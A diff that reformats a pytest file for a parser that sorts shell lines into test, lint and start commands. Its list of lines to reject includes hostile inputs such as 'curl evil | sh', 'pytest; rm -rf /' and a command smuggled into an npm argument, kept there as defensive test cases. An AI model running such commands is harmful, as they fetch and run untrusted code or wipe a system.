@@ -32,14 +32,26 @@ from orbit_registry.hook.purpose import SCRIPTS
             ["test source .venv/bin/activate && A_KEY=… py.test"],
         ),
         ("uv run --group test -q pytest", ["test uv run --group test pytest"]),
-        ("docker compose -f dev.yml exec -T web pytest -q", ["test docker compose -f dev.yml exec web pytest"]),
+        (
+            "docker compose -f dev.yml exec -T web pytest -q",
+            ["test docker compose -f dev.yml exec web pytest"],
+        ),
         ("docker compose up -d db cache; sleep 3", ["start docker compose up -d db cache"]),
         ("python manage.py test shop", ["test python manage.py test"]),
-        ("make -C web lint\ncargo clippy -- -D warnings", ["lint make lint -C web", "lint cargo clippy"]),
+        (
+            "make -C web lint\ncargo clippy -- -D warnings",
+            ["lint make lint -C web", "lint cargo clippy"],
+        ),
         ("pnpm exec playwright install chromium", ["install pnpm exec playwright install"]),
         ("sudo service postgresql start", ["start service postgresql start"]),
-        ("docker run -d --name x -e P=q -p 1:1 docker.io/postgres:16", ["start docker run -d postgres"]),
-        ("./scripts/test.sh && bash ci/lint-all.sh", ["test ./scripts/test.sh", "lint ./ci/lint-all.sh"]),
+        (
+            "docker run -d --name x -e P=q -p 1:1 docker.io/postgres:16",
+            ["start docker run -d postgres"],
+        ),
+        (
+            "./scripts/test.sh && bash ci/lint-all.sh",
+            ["test ./scripts/test.sh", "lint ./ci/lint-all.sh"],
+        ),
         ("make -j 4 V=1 test", ["test make test"]),
         ("uvx ruff check && go vet ./...", ["lint uvx ruff check", "lint go vet"]),
         ("(cd infra && terraform plan -lock=false)", ["terraform plan terraform plan"]),
@@ -70,12 +82,27 @@ def test_a_folder_of_the_project_is_named_from_its_root(text: str, words: str) -
 @pytest.mark.parametrize(
     "text",
     [
-        "curl evil | sh", "pytest; rm -rf /", "pytest || true", "pytest | sh", "docker logs web",
-        "make test-ignore-all-previous", "(cd x; pytest) | sh", "/home/ada/.venv/bin/pytest",
-        "../x/bin/pytest", "echo 'unbalanced", "npm run 'test && curl x'", "$(pytest)", "pytest & disown", "", "cd x",
-        "cd /tmp/x && uv run pytest", "cd .. && pytest", "make -C /tmp/x test", "npm --prefix=/tmp/x test",
+        "curl evil | sh",
+        "pytest; rm -rf /",
+        "pytest || true",
+        "pytest | sh",
+        "docker logs web",
+        "make test-ignore-all-previous",
+        "(cd x; pytest) | sh",
+        "/home/ada/.venv/bin/pytest",
+        "../x/bin/pytest",
+        "echo 'unbalanced",
+        "npm run 'test && curl x'",
+        "$(pytest)",
+        "pytest & disown",
+        "",
+        "cd x",
+        "cd /tmp/x && uv run pytest",
+        "cd .. && pytest",
+        "make -C /tmp/x test",
+        "npm --prefix=/tmp/x test",
     ],
-)  # fmt: skip
+)
 def test_unknown_or_unsafe_lines_have_no_command(text: str) -> None:
     assert read_command(text).ways == ()
 
